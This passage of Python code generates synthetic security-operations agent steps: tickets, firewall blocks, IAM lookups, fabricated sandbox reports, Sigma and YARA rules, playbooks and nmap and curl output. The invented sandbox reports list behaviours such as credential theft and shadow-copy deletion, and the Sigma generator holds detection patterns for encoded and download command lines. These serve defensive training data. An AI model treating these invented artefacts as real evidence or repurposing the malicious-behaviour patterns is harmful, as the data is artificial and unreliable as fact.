    hist.append({"author": "soc-agent", "at": _ts(r), "body": comment})
    return {"key": t, "summary": r.choice(("Suspicious rundll32 child of Outlook", "Phishing report: invoice lure", "Impossible travel alert",
                                           "EDR: credential dumping attempt", "Mass mailbox rule creation", "Brute force against VPN")),
            "status": status, "priority": r.choice(("P2", "P3", "P3", "P4")), "assignee": "soc-l2", "labels": r.sample(("phishing", "edr", "identity", "cloud", "vpn", "malware", "fp-candidate"), 2),
            "created": _ts(r), "updated": _ts(r), "comments": hist, "links": [w.pick("incs")], "sla": {"breach_at": _ts(r), "paused": False}}


def t_ticket_comment(g: Gen, t: str | None = None) -> Step:
    r, w = g.rng, g.w
    t = t or w.pick("tickets")
    comment = r.choice((f"EDR findings added: tree from {w.pick('ws')}, no lateral movement seen.", "Added sandbox verdict and hashes.",
                        f"Blocked {w.pick('domains')} at the proxy.", "User interviewed, credentials reset."))
    return Step("ticket_update", {"ticket": t, "comment": comment, "status": "In Progress"}, _js(_ticket_obj(g, t, "In Progress", comment)),
                f"Comment added to {t}, status In Progress.",
                (f"add the edr findings to {t} and set it in progress", f"update {t} with what we have", f"put a note in {t}",
                 f"schreib das bitte in {t} rein"),
                r.choice((f"Updating {t}.", "")))


def t_ticket_close(g: Gen, t: str | None = None) -> Step:
    r, w = g.rng, g.w
    t = t or w.pick("tickets")
    comment = r.choice(("Closed as false positive: signed admin tool, expected change window.", "Closed: benign, user-initiated.",
                        "Closed as true positive - contained and remediated.", "Duplicate, closed."))
    return Step("ticket_update", {"ticket": t, "status": "Closed", "resolution": comment.split(":")[0], "comment": comment},
                _js(_ticket_obj(g, t, "Closed", comment)), f"{t} closed ({comment.split(':')[0].lower()}).",
                (f"close {t} as false positive", f"{t} can be closed, benign", f"close out {t}", f"cierra {t}, falso positivo"),
                f"Closing {t}.")


def t_fw_block(g: Gen, ip: str | None = None) -> Step:
    r, w = g.rng, g.w
    ip = ip or w.pick("ext_ips")
    name = f"blk-{ip.replace('.', '-')}"
    job = r.randint(4000, 9999)
    out = "\n".join([f"admin@fw-edge-0{r.randint(1, 3)}# set address {name} ip-netmask {ip}/32",
                     f"admin@fw-edge-0{r.randint(1, 3)}# set address-group NVF-BLOCK-DYN static [ {name} ]",
                     "admin@fw-edge# commit description \"soc block\"", "", f"Commit job {job} is in progress. Use Ctrl+C to return to command prompt",
                     "..........................................................55%..........75%.....98%.......100%",
                     "Configuration committed successfully", ""]
                    + [f"  {_hms(r)} vsys1 rule {x} hit-count {r.randint(0, 99999)}" for x in ("deny-bad-geo", "NVF-BLOCK-DYN", "allow-o365", "allow-sap-gw", "default-deny")]
                    + ["", f"Job {job}: commit   FIN   OK   {_hms(r)}", "", "admin@fw-edge-01> show object address-group NVF-BLOCK-DYN", "NVF-BLOCK-DYN {", "    static {"]
                    + [f"        blk-{x.replace('.', '-')};  # added {_day(r)} by {r.choice(('soc-agent', 'netops', 'pdevries'))}" for x in r.sample(w.ext_ips, r.randint(20, 34))]
                    + [f"        {name};", "    }", "}"])
    return Step("firewall_rule", {"device": "fw-edge-01", "action": "block", "address": ip, "group": "NVF-BLOCK-DYN"}, out,
                f"{ip} is in NVF-BLOCK-DYN on the edge, commit went through.",
                (f"block {ip} at the edge", f"put {ip} on the blocklist", f"sperr bitte {ip} an der Firewall", f"block {ip} pls it's the spray source"),
                f"Blocking {ip}.")


def t_fw_show(g: Gen, rule: str | None = None) -> Step:
    r, w = g.rng, g.w
    rule = rule or w.pick("rules")
    blocks = []
    names = [rule] + r.sample(w.rules, r.randint(9, 13))
    for n in names:
        blocks.append("\n".join([f"\"{n}; index: {r.randint(1, 300)}\" {{", f"        from {r.choice(('untrust', 'trust', 'dmz', 'ot'))};",
                                 f"        source [ {' '.join(r.sample(w.int_ips, 2))} ];", f"        to {r.choice(('untrust', 'dmz', 'trust'))};",
                                 f"        destination {r.choice(('any', w.pick('ext_ips'), w.pick('int_ips')))};", f"        application [ {' '.join(r.sample(('ssl', 'web-browsing', 'ms-rdp', 'smb', 'dns', 'ssh', 'sap'), 2))} ];",
                                 f"        service {r.choice(('application-default', 'any', 'tcp-8443'))};", f"        action {r.choice(('allow', 'allow', 'deny', 'drop'))};",
                                 f"        log-end yes; hit-count {r.randint(0, 2000000)}; last-hit {_ts(r)};", "}"]))
    out = "admin@fw-edge-01> show running security-policy\n\n" + "\n".join(blocks)
    return Step("firewall_rule", {"device": "fw-edge-01", "action": "show", "rule": rule}, out,
                f"{rule} is there; it is not an any-any, the destination is scoped and it logs at session end.",
                (f"show me rule {rule} on fw-edge-01", f"what does {rule} allow", f"dump {rule}"),
                f"Showing {rule}.")


def t_iam_user(g: Gen, acct: str | None = None) -> Step:
    r, w = g.rng, g.w
    acct = acct or w.pick("accounts")
    first, last = acct.split(".")
    obj = {"id": _uuid(r), "userPrincipalName": f"{acct}@{DOMAIN}", "displayName": f"{last.title()}, {first.upper()}.",
           "accountEnabled": r.random() < 0.9, "jobTitle": r.choice(("Dispatcher", "Accountant", "Warehouse Lead", "Driver Coordinator", "IT Technician", "Customs Clerk", "Key Account Manager")),
           "officeLocation": r.choice(SITES)[1], "onPremisesSamAccountName": acct.replace(".", ""), "lastPasswordChangeDateTime": _ts(r),
           "signInActivity": {"lastSignInDateTime": _ts(r), "lastNonInteractiveSignInDateTime": _ts(r)},
           "memberOf": r.sample(("GG-All-Staff", "GG-SAP-Users", "GG-VPN-Users", "GG-Finance", "GG-Dispatch-" + r.choice(SITES)[0], "GG-Local-Admins-WS", "GG-M365-E3", "GG-TMS-PowerUsers", "GG-Remote-Desktop"), 5),
           "authenticationMethods": [{"@odata.type": "#microsoft.graph.microsoftAuthenticatorAuthenticationMethod", "displayName": f"iPhone {r.randint(11, 16)}", "createdDateTime": _ts(r)},
                                     {"@odata.type": "#microsoft.graph.phoneAuthenticationMethod", "phoneNumber": f"+46 7{r.randint(0, 9)} {r.randint(100, 999)} {r.randint(10, 99)} {r.randint(10, 99)}", "phoneType": "mobile"},
                                     {"@odata.type": "#microsoft.graph.passwordAuthenticationMethod", "createdDateTime": _ts(r)}],
           "riskDetections": [{"riskEventType": r.choice(("unfamiliarFeatures", "anonymizedIPAddress", "passwordSpray", "atypicalTravel")), "riskLevel": r.choice(("low", "medium")),
                               "ipAddress": w.pick("ext_ips"), "detectedDateTime": _ts(r), "riskState": r.choice(("remediated", "dismissed", "atRisk"))} for _ in range(r.randint(1, 4))],
           "ownedDevices": [{"displayName": w.pick("ws"), "operatingSystem": "Windows", "isCompliant": r.random() < 0.8} for _ in range(r.randint(1, 3))]}
    return Step("iam_query", {"source": "entra", "principal": f"{acct}@{DOMAIN}", "expand": ["memberOf", "authenticationMethods", "riskDetections"]}, _js(obj),
                f"{acct} is {'enabled' if obj['accountEnabled'] else 'disabled'}, in {len(obj['memberOf'])} groups, {len(obj['riskDetections'])} risk detection(s), MFA via Authenticator and SMS.",
                (f"who is {acct}, groups + mfa", f"iam lookup on {acct}", f"what groups is {acct} in", f"wer ist {acct} eigentlich? gruppen bitte"),
                r.choice(("Looking the account up in Entra.", "")))


def t_iam_aws(g: Gen, acct: str | None = None) -> Step:
    r, w = g.rng, g.w
    acct = acct or w.pick("aws")
    user = r.choice(("ci-deploy", "tms-export", "backup-writer", "grafana-ro", "edi-partner", "terraform"))
    obj = {"Account": acct, "User": {"UserName": user, "Arn": f"arn:aws:iam::{acct}:user/{user}", "CreateDate": _ts(r), "PasswordLastUsed": None},
           "AccessKeyMetadata": [{"AccessKeyId": "AKIA" + _upper(r, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), "Status": r.choice(("Active", "Inactive")), "CreateDate": _ts(r),
                                  "LastUsed": {"Date": _ts(r), "ServiceName": r.choice(("s3", "sts", "ec2", "logs")), "Region": "eu-north-1"}} for _ in range(2)],
           "AttachedPolicies": [{"PolicyName": p, "PolicyArn": f"arn:aws:iam::aws:policy/{p}"} for p in r.sample(("ReadOnlyAccess", "AmazonS3FullAccess", "CloudWatchLogsReadOnlyAccess", "AmazonEC2ReadOnlyAccess", "SecurityAudit"), 2)],
           "InlinePolicies": {"tms-bucket": {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": f"arn:aws:s3:::nvf-tms-{r.choice(('exports', 'archive', 'edi'))}/*"}]}}}
    return Step("iam_query", {"source": "aws", "account": acct, "user": user, "include": ["access_keys", "policies"]}, _js(obj),
                f"AWS user {user} in {acct}: two keys, policies {', '.join(p['PolicyName'] for p in obj['AttachedPolicies'])}; nothing admin-level.",
                (f"what keys does {user} have in aws {acct}", f"check iam for {user} in account {acct}", f"list {user}'s access keys ({acct})"),
                r.choice(("Querying AWS IAM.", "")))


def _sandbox_report(g: Gen, subject: str, verdict: str, extra: list[str]) -> str:
    r, w = g.rng, g.w
    procs = [f"  {r.randint(1000, 9000)}  {p:<16} {_cmdline(g, p)[:110]}" for p in r.sample(PROCS, r.randint(9, 14))]
    net = [f"  {r.choice(('TCP', 'UDP', 'DNS', 'HTTP'))}  {w.pick('ext_ips')}:{r.choice((443, 80, 53, 8080, 4444))}  {r.choice(w.domains + list(BENIGN_DOMAINS))}  {r.randint(120, 90000)} bytes" for _ in range(r.randint(15, 25))]
    sigs = [f"  [{r.choice(('high', 'medium', 'low', 'info'))}] {s}" for s in r.sample((
        "Queries sensitive IE security settings", "Creates a process in suspended mode (likely hollowing)", "Writes to a Run key",
        "Contains a PE in the overlay", "Checks for a debugger", "Enumerates running processes", "Uses Windows API to sleep long", "Reads browser credentials",
        "Connects to a non-standard port", "Deletes volume shadow copies", "Drops an executable to %TEMP%", "Modifies the hosts file"), 7)]
    mitre = [f"  {t} {n}" for t, n in r.sample(TECHNIQUES, 5)]
    dropped = [f"  C:\\Users\\admin\\AppData\\Local\\Temp\\{_hex(r, 8)}.{r.choice(('exe', 'dll', 'tmp', 'ps1'))}  sha256={_hex(r, 64)}" for _ in range(r.randint(2, 5))]
    keys = ("Microsoft\\Windows\\CurrentVersion\\Run", "Classes\\ms-settings\\shell\\open\\command", "Microsoft\\Office\\16.0\\Excel\\Security", "Wow6432Node\\" + _hex(r, 8))
    reg = [f"  {r.choice(('SET', 'SET', 'DEL', 'NEW'))} HKCU\\Software\\{r.choice(keys)}\\{_hex(r, 5)} = {_hex(r, r.randint(8, 40))}" for _ in range(r.randint(6, 12))]
    mut = [f"  {r.choice(('Global', 'Local', 'Session'))}\\{_hex(r, r.randint(8, 32))}" for _ in range(r.randint(3, 6))]
    ua = '"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"'
    http = [f"  {r.choice(('GET', 'POST'))} http://{w.pick('ext_ips')}/{_hex(r, r.randint(4, 16))}{r.choice(('.php', '.jpg', '', '/gate', '.bin'))} -> {r.choice((200, 200, 404, 503))} ({r.randint(100, 90000)} bytes) UA={ua}" for _ in range(r.randint(4, 9))]
    strs = [f"  {r.choice(('0x', ''))}{_b64(r, r.randint(10, 40)).rstrip('=')}" for _ in range(r.randint(8, 16))]
    return "\n".join([f"Sandbox report {_uuid(r)}", f"Subject: {subject}", f"Environment: win10-x64-office2019 ({r.choice(('de-DE', 'sv-SE', 'en-US'))}), timeout 300s",
                      f"Verdict: {verdict}   Score: {r.randint(0, 100)}/100", "", "Processes:"] + procs + ["", "Network:"] + net
                     + ["", "HTTP requests:"] + http + ["", "Signatures:"] + sigs + ["", "MITRE ATT&CK:"] + mitre + ["", "Dropped files:"] + dropped
                     + ["", "Registry:"] + reg + ["", "Mutexes:"] + mut + ["", "Strings (selection):"] + strs + extra)


def t_sandbox_file(g: Gen, h: str | None = None) -> Step:
    r = g.rng
    h = h or _hex(r, 64)
    verdict = r.choice(("malicious", "malicious", "suspicious", "no specific threat"))
    return Step("sandbox_detonate", {"sha256": h, "environment": "win10-x64-office2019", "timeout": 300, "private": True},
                _sandbox_report(g, f"sha256 {h}", verdict, []), f"Sandbox verdict for {h[:12]}…: {verdict}.",
                (f"run {h} through the sandbox", f"detonate {h}", f"sandbox pls: {h}", f"kör {h} i sandlådan"),
                r.choice(("Submitting to the private sandbox.", "")))


def t_sandbox_url(g: Gen, url: str | None = None) -> Step:
    r, w = g.rng, g.w
    url = url or f"https://{w.pick('domains')}/{r.choice(('login', 'invoice', 'track', 'doc', 'share'))}/{_hex(r, 10)}"
    verdict = r.choice(("phishing (credential harvest)", "malicious (drops ISO)", "no specific threat"))
    extra = ["", "Page:", f"  title: {r.choice(('Microsoft 365 - Sign in', 'DHL Sendungsverfolgung', 'Norrvik Freight Portal', 'Document shared with you'))}",
             f"  form action: https://{w.pick('domains')}/{_hex(r, 6)}.php", f"  screenshot: /reports/{_hex(r, 12)}.png"]
    return Step("sandbox_detonate", {"url": url, "environment": "chrome-win10", "timeout": 120, "private": True},
                _sandbox_report(g, url, verdict, extra), f"The URL detonates as {verdict}.",
                (f"detonate {url}", f"what does {url} do", f"open {url} in the sandbox pls"), "Opening the URL in the sandbox.")


def _mail_rows(g: Gen, n: int, sender: str | None = None, attach: str | None = None) -> list[list[Any]]:
    r, w = g.rng, g.w
    subjects = ("Re: Fraktsedel", "Invoice overdue", "Ihre Sendung", "Payment advice", "Shared document", "Updated bank details", "Delivery failed", "Week 12 schedule")
    return [[_ts(r), sender or f"{r.choice(('noreply', 'billing', 'info', 'accounts', 'support'))}@{r.choice(w.domains + ['dhl.com', 'maersk.com'])}",
             f"{w.pick('accounts')}@{DOMAIN}", r.choice(subjects), attach or r.choice(w.files + ["-", "-", "-"]), r.choice(("Delivered", "Delivered", "Quarantined", "FilteredAsSpam", "Failed")),
             f"{w.pick('ext_ips')}", f"<{_hex(r, 16)}@{r.choice(w.domains)}>"] for _ in range(n)]


MAIL_HEAD = ["Received", "SenderAddress", "RecipientAddress", "Subject", "Attachment", "Status", "FromIP", "MessageId"]


def t_mail_trace(g: Gen, attach: str | None = None) -> Step:
    r = g.rng
    rows = sorted(_mail_rows(g, r.randint(24, 36), attach=attach))
    what = f"attachment {attach}" if attach else f"subject \"{rows[0][3]}\""
    return Step("mail_trace", {"filter": {"attachment": attach} if attach else {"subject": rows[0][3]}, "days": 10}, _pipe(MAIL_HEAD, rows),
                f"Message trace for {what}: {len(rows)} messages, {sum(x[5] == 'Delivered' for x in rows)} delivered, the rest quarantined or filtered.",
                (f"message trace for {what}", f"who else got mails with {what}?", f"search the mail trace for {what}"),
                r.choice(("Running a message trace.", "")))


def t_read_sigma(g: Gen) -> Step:
    r = g.rng
    topic = r.choice(TOPICS)
    path = f"detections/sigma/{topic}.yml"
    tech = r.choice(TECHNIQUES)
    body = "\n".join([f"title: {topic.replace('_', ' ').title()}", f"id: {_uuid(r)}", "status: experimental",
                      f"description: Detects {topic.replace('_', ' ')} behaviour seen in {r.choice(FAMILIES)} intrusions", "references:",
                      f"  - https://attack.mitre.org/techniques/{tech[0].replace('.', '/')}/", "author: NVF SOC", f"date: {_day(r).replace('-', '/')}",
                      "tags:", f"  - attack.{tech[0].lower()}", "logsource:", "  category: process_creation", "  product: windows", "detection:",
                      "  selection_parent:", "    ParentImage|endswith:"] + [f"      - '\\{p}'" for p in r.sample(PROCS, 4)]
                     + ["  selection_cli:", "    CommandLine|contains|all:"] + [f"      - '{x}'" for x in r.sample(("-enc", "http", "DllRegisterServer", "/c", "-urlcache", "Invoke-", "FromBase64String", ".dll,", "hidden"), 3)]
                     + ["  filter_sccm:", "    ParentImage|endswith: '\\CcmExec.exe'", "  condition: all of selection_* and not 1 of filter_*",
                        "falsepositives:", "  - Software deployment via SCCM", "  - Admin scripts on jump hosts", f"level: {r.choice(('medium', 'high'))}"])
    more = "\n".join(["---", f"title: {topic.replace('_', ' ').title()} (network variant)", f"id: {_uuid(r)}", "status: test", "logsource:", "  category: network_connection", "  product: windows",
                        "detection:", "  selection:", "    Initiated: 'true'", "    DestinationPort:"] + [f"      - {p}" for p in r.sample((443, 80, 8080, 8443, 4444, 53, 22), 4)]
                       + ["    Image|endswith:"] + [f"      - '\\{p}'" for p in r.sample(PROCS, 5)] + ["  filter_internal:", "    DestinationIp|cidr:", "      - '10.0.0.0/8'", "      - '172.16.0.0/12'",
                                                                                                       "  condition: selection and not filter_internal", "level: medium"])
    body = "\n".join(f"{k:>4}  {line}" for k, line in enumerate((body + "\n" + more).splitlines(), 1))
    return Step("read_file", {"path": path}, body + "\n" + f"# {len(body)} bytes, last commit {_hex(r, 7)} by soc-bot",
                f"{path} matches on the parent/command-line pair and filters SCCM; it is tagged {tech[0]} ({tech[1]}).",
                (f"show me {path}", f"what does our {topic.replace('_', ' ')} rule look like", f"cat {path}"), "")


def t_read_yara(g: Gen) -> Step:
    r = g.rng
    fam = r.choice(FAMILIES)
    path = f"detections/yara/{fam}.yar"
    strings = [f"        $s{i} = \"{_hex(r, r.randint(6, 12))}\" ascii wide" for i in range(r.randint(15, 28))]
    strings += [f"        $h{i} = {{ {' '.join(_hex(r, 2) for _ in range(r.randint(8, 16)))} }}" for i in range(r.randint(3, 6))]
    body = "\n".join([f"rule NVF_{fam.title()}_{r.choice(('Loader', 'Payload', 'Config', 'Stager'))}", "{", "    meta:", "        author = \"nvf-soc\"",
                      f"        date = \"{_day(r)}\"", f"        hash1 = \"{_hex(r, 64)}\"", f"        hash2 = \"{_hex(r, 64)}\"", f"        tlp = \"{r.choice(('amber', 'green'))}\"",
                      "    strings:"] + strings + ["    condition:", f"        uint16(0) == 0x5A4D and filesize < {r.randint(200, 4000)}KB and ({r.randint(2, 4)} of ($s*) or 2 of ($h*))", "}"])
    return Step("read_file", {"path": path}, body, f"The {fam} rule keys on {len(strings)} strings and a PE size limit.",
                (f"open {path}", f"show our yara for {fam}", f"whats in the {fam} yara rule"), "")


def t_read_playbook(g: Gen) -> Step:
    r, w = g.rng, g.w
    topic = r.choice(("phishing", "bec", "ransomware", "lost-laptop", "aws-key-leak", "malware-ws", "insider", "ddos"))
    path = f"playbooks/{topic}.md"
    steps = [f"{i}. {s}" for i, s in enumerate(r.sample((
        "Confirm the alert and collect the original evidence (headers, hashes, screenshots).", "Open a SEC ticket and link the alert.",
        "Scope: search SIEM for the same indicator across all sites for the last 14 days.", "Contain: EDR network containment for affected workstations.",
        "Notify the site IT lead by Teams, not by mail.", "Reset credentials and revoke sessions for affected accounts.",
        "Block indicators at proxy, mail gateway and edge firewall.", "Preserve evidence on the evidence share with chain of custody.",
        "Check for persistence: Run keys, scheduled tasks, services, WMI subscriptions.", "Document the timeline in the ticket.",
        "Hand over to L3 if domain admin credentials are involved.", "Close with lessons learned within 5 working days."), 9), 1)]
    body = "\n".join([f"# Playbook: {topic}", "", f"Owner: {w.person()}  ·  Reviewed {_day(r)}  ·  Version {r.randint(1, 9)}.{r.randint(0, 9)}", "",
                      "## When to use", f"Any alert or report classified as {topic}.", "", "## Steps"] + steps
                     + ["", "## Contacts", f"- Network: {PEOPLE[3][0]}", f"- On-call infra: {PEOPLE[4][0]}", f"- DPO: {PEOPLE[2][0]}", "",
                        "## Escalation matrix", "", "| Severity | First response | Escalate to | Notify |", "|---|---|---|---|",
                        "| P1 | 15 min | incident lead + CISO | management team, DPO if personal data |", "| P2 | 1 h | L3 on duty | site IT lead |",
                        "| P3 | 4 h | - | ticket only |", "| P4 | next working day | - | ticket only |", "",
                        "## Evidence checklist", ""] + [f"- [ ] {x}" for x in r.sample((
                            "original mail as .eml with full headers", "EDR process tree export (json)", "memory image (winpmem) with sha256", "triage collection (KAPE/Velociraptor)",
                            "firewall and proxy logs for the time window", "sign-in logs for affected accounts", "screenshots of user-visible artefacts", "list of containment actions with timestamps",
                            "copies of ransom notes", "hash list of dropped files"), 7)]
                     + ["", "## Queries", "```kql", "DeviceNetworkEvents | where RemoteUrl has \"<indicator>\" | summarize count() by DeviceName", "```",
                        "```spl", "index=proxy url=\"*<indicator>*\" | stats count by user, src_ip", "```", "", "## Change log", ""]
                     + [f"- {_day(r)} {r.choice(('added', 'clarified', 'removed', 'reworded'))} step {r.randint(1, 9)} ({w.person().split()[0]})" for _ in range(r.randint(4, 8))])
    return Step("read_file", {"path": path}, body, f"The {topic} playbook has {len(steps)} steps; containment is step {r.randint(2, 5)}.",
                (f"what does the {topic} playbook say", f"open {path}", f"pull up our {topic} runbook"), "")


def t_read_config(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("srv")
    kind = r.randrange(3)
    if kind == 0:
        path = f"/mnt/triage/{host}/etc/ssh/sshd_config"
        body = "\n".join(["# $OpenBSD: sshd_config,v 1.104 2021/07/02 $", f"Port {r.choice((22, 22, 2222))}", "AddressFamily any", "ListenAddress 0.0.0.0",
                          "HostKey /etc/ssh/ssh_host_ed25519_key", "SyslogFacility AUTH", "LogLevel VERBOSE", f"LoginGraceTime {r.choice(('2m', '30s'))}",
                          f"PermitRootLogin {r.choice(('no', 'prohibit-password'))}", "StrictModes yes", f"MaxAuthTries {r.randint(3, 6)}", "PubkeyAuthentication yes",
                          "AuthorizedKeysFile .ssh/authorized_keys", "PasswordAuthentication no", "KbdInteractiveAuthentication no", "UsePAM yes",
                          "X11Forwarding no", "PrintMotd no", "ClientAliveInterval 300", "AcceptEnv LANG LC_*", "Subsystem sftp /usr/lib/openssh/sftp-server",
                          f"AllowGroups ssh-admins {r.choice(('backup', 'deploy', 'ansible'))}"] + [f"# {x}" for x in ("Match User anoncvs", "X11Forwarding no", "AllowTcpForwarding no", "PermitTTY no")]
                         + ["", "# This is the sshd server system-wide configuration file.  See", "# sshd_config(5) for more information.", "",
                            "# The strategy used for options in the default sshd_config shipped with", "# OpenSSH is to specify options with their default value where",
                            "# possible, but leave them commented.  Uncommented options override the", "# default value."]
                         + [f"#{x}" for x in ("RekeyLimit default none", "AuthorizedPrincipalsFile none", "AuthorizedKeysCommand none", "AuthorizedKeysCommandUser nobody",
                                              "HostbasedAuthentication no", "IgnoreUserKnownHosts no", "IgnoreRhosts yes", "PermitEmptyPasswords no", "KerberosAuthentication no",
                                              "KerberosOrLocalPasswd yes", "GSSAPIAuthentication no", "GSSAPICleanupCredentials yes", "AllowAgentForwarding yes", "GatewayPorts no",
                                              "X11DisplayOffset 10", "X11UseLocalhost yes", "PermitTTY yes", "PrintLastLog yes", "TCPKeepAlive yes", "PermitUserEnvironment no",
                                              "Compression delayed", "ClientAliveCountMax 3", "UseDNS no", "PidFile /run/sshd.pid", "MaxStartups 10:30:100", "PermitTunnel no",
                                              "ChrootDirectory none", "VersionAddendum none", "Banner none")]
                         + ["", f"# ---- {path} read from triage image, sha256 {_hex(r, 64)}", f"# mtime {_day(r)} {_hms(r)}  size {r.randint(3000, 4000)}  owner root:root  mode 0644"])
    elif kind == 1:
        path = f"/mnt/triage/{host}/etc/nginx/sites-enabled/portal.conf"
        body = "\n".join(["server {", "    listen 443 ssl http2;", f"    server_name track.{DOMAIN};", "    ssl_certificate /etc/ssl/nvf/track.crt;",
                          "    ssl_protocols TLSv1.2 TLSv1.3;", "    client_max_body_size 20m;", "    access_log /var/log/nginx/portal_access.log main;",
                          "    location / {", f"        proxy_pass http://{w.pick('int_ips')}:8080;", "        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;", "    }",
                          "    location /api/ {", f"        limit_req zone=api burst={r.randint(10, 50)} nodelay;", f"        proxy_pass http://{w.pick('int_ips')}:9000;", "    }",
                          "    location ~ /\\.git { deny all; }", "}"] * 2)
    else:
        path = f"/mnt/triage/{host}/okta_policy_export.json"
        body = _js({"policies": [{"name": n, "priority": i, "conditions": {"network": {"include": r.sample(("ANYWHERE", "NVF-Offices", "NVF-VPN"), 1)},
                                                                            "people": {"groups": {"include": r.sample(("GG-All-Staff", "GG-Drivers", "GG-Contractors", "GG-IT"), 2)}}},
                                  "actions": {"signon": {"access": "ALLOW", "requireFactor": r.random() < 0.8, "factorLifetime": r.choice((15, 60, 720)),
                                                         "session": {"maxSessionIdleMinutes": r.choice((30, 120)), "maxSessionLifetimeMinutes": r.choice((480, 720, 0))}}}}
                                 for i, n in enumerate(("Default", "Drivers kiosk", "Contractors", "IT admins", "Legacy SAP"), 1)]})
    return Step("read_file", {"path": path}, body, f"Read {path.rsplit('/', 1)[1]} from the {host} triage image; nothing unusual in it at first glance.",
                (f"read the {path.rsplit('/', 1)[1]} from the {host} collection", f"cat {path}", f"what's in {path.rsplit('/', 1)[1]} on {host}"), "")


def t_nmap(g: Gen, target: str | None = None) -> Step:
    r, w = g.rng, g.w
    target = target or w.pick("int_ips")
    ports = sorted(r.sample((21, 22, 25, 53, 80, 88, 110, 135, 139, 389, 443, 445, 636, 1433, 3268, 3389, 5985, 8080, 8443, 9100), r.randint(5, 11)))
    svc = {21: "ftp vsftpd 3.0.3", 22: "ssh OpenSSH 8.9p1 Ubuntu", 25: "smtp Postfix", 53: "domain", 80: "http nginx 1.24.0", 88: "kerberos-sec",
           110: "pop3", 135: "msrpc Microsoft Windows RPC", 139: "netbios-ssn", 389: "ldap", 443: "ssl/http nginx", 445: "microsoft-ds?", 636: "ssl/ldap",
           1433: "ms-sql-s Microsoft SQL Server 2019", 3268: "ldap", 3389: "ms-wbt-server Microsoft Terminal Services", 5985: "http Microsoft HTTPAPI httpd 2.0",
           8080: "http-proxy", 8443: "ssl/https-alt", 9100: "jetdirect?"}
    lines = [f"Starting Nmap 7.94 ( https://nmap.org ) at {_day(r)} {_hms(r)[:5]} CET", f"Nmap scan report for {target}", f"Host is up (0.00{r.randint(10, 99)}s latency).",
             f"Not shown: {1000 - len(ports)} filtered tcp ports (no-response)", "PORT      STATE SERVICE       VERSION"]
    for p in ports:
        lines.append(f"{str(p) + '/tcp':<9} open  {svc[p]}")
        if p in (443, 8443, 3389) and r.random() < 0.7:
            lines += [f"| ssl-cert: Subject: commonName={r.choice(w.srv).lower()}.{AD}", f"| Not valid before: {_day(r)}T{_hms(r)}", f"|_Not valid after:  2026-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}T{_hms(r)}"]
        if p == 445:
            lines += ["Host script results:", "| smb2-security-mode:", "|   3:1:1:", "|_    Message signing enabled but not required", f"|_clock-skew: mean: {r.randint(-5, 5)}s"]
    lines += [f"MAC Address: {':'.join(_hex(r, 2).upper() for _ in range(6))} (VMware)", "Service detection performed.",
              f"Nmap done: 1 IP address (1 host up) scanned in {r.uniform(8, 90):.2f} seconds"]
    return Step("shell", {"command": f"nmap -sV -Pn --top-ports 1000 {target}"}, "\n".join(lines),
                f"{target} has {len(ports)} open ports ({', '.join(map(str, ports[:5]))}…); SMB signing not required if 445 is listed, otherwise nothing new.",
                (f"quick nmap of {target}", f"scan {target}, what's open", f"nmap {target} pls (internal, it's fine)"), "Scanning.")


def t_curl(g: Gen, url: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = r.choice(w.domains)
    url = url or f"https://{host}/{r.choice(('', 'login', 'wp-admin/', 'api/v1/ping', 'track'))}"
    ip = w.pick("ext_ips")
    lines = [f"*   Trying {ip}:443...", f"* Connected to {host} ({ip}) port 443 (#0)", "* ALPN: offers h2,http/1.1", "* TLSv1.3 (OUT), TLS handshake, Client hello (1):",
             "* TLSv1.3 (IN), TLS handshake, Server hello (2):", "* TLSv1.3 (IN), TLS handshake, Certificate (11):", "* SSL connection using TLSv1.3 / TLS_AES_256_GCM_SHA384",
             "* Server certificate:", f"*  subject: CN={host}", f"*  start date: {_day(r)} {_hms(r)} GMT", "*  expire date: 2025-06-30 23:59:59 GMT",
             f"*  issuer: C=US; O=Let's Encrypt; CN=R{r.randint(10, 11)}", "*  SSL certificate verify ok.", f"> GET {url.split(host, 1)[-1] or '/'} HTTP/2",
             f"> Host: {host}", "> User-Agent: curl/8.5.0", "> Accept: */*", ">", f"< HTTP/2 {r.choice((200, 302, 403, 404))}",
             f"< server: {r.choice(('nginx', 'cloudflare', 'Apache/2.4.58', 'LiteSpeed'))}", f"< date: {_day(r)} {_hms(r)} GMT", "< content-type: text/html; charset=UTF-8",
             f"< set-cookie: PHPSESSID={_hex(r, 26)}; path=/", f"< x-request-id: {_uuid(r)}", "<"]
    lines += [f"<html><head><title>{r.choice(('Sign in to your account', 'Index of /', '403 Forbidden', 'Tracking'))}</title>"] + [f"<script src=\"/static/{_hex(r, 8)}.js\"></script>" for _ in range(r.randint(3, 8))]
    lines += ["</head><body>", f"<form action=\"/{_hex(r, 6)}.php\" method=\"post\"><input name=\"login\"><input name=\"passwd\" type=\"password\"></form>", "</body></html>",
              f"* Connection #0 to host {host} left intact"]
    return Step("shell", {"command": f"curl -v -sS --max-time 15 '{url}'", "cwd": "/home/soc/triage"}, "\n".join(lines),
                f"{host} answers from {ip} with a login-looking form and a fresh Let's Encrypt cert.",
                (f"curl {url} and tell me what comes back", f"what does {host} serve", f"poke {url} from the sandbox vm"), "")


def t_dig(g: Gen, d: str | None = None) -> Step:
    r, w = g.rng, g.w
    d = d or w.pick("domains")
    ips = r.sample(w.ext_ips, r.randint(1, 3))
    lines = [f"; <<>> DiG 9.18.24 <<>> {d} ANY +noall +answer", ";; global options: +cmd"] + [f"{d}.\t\t{r.choice((60, 300))}\tIN\tA\t{ip}" for ip in ips]
    lines += [f"{d}.\t\t3600\tIN\tNS\tns{i}.{r.choice(('dnsowl.com', 'registrar-servers.com', 'cloudflare.com'))}." for i in (1, 2)]
    lines += [f"{d}.\t\t3600\tIN\tMX\t10 mx.{d}.", f"{d}.\t\t300\tIN\tTXT\t\"v=spf1 ip4:{ips[0]} -all\"", "", "$ whois " + d]
    lines += [f"Domain Name: {d.upper()}", f"Registry Domain ID: {r.randint(10**9, 10**10)}_DOMAIN", f"Registrar WHOIS Server: whois.{r.choice(('namesilo.com', 'namecheap.com', 'publicdomainregistry.com'))}",
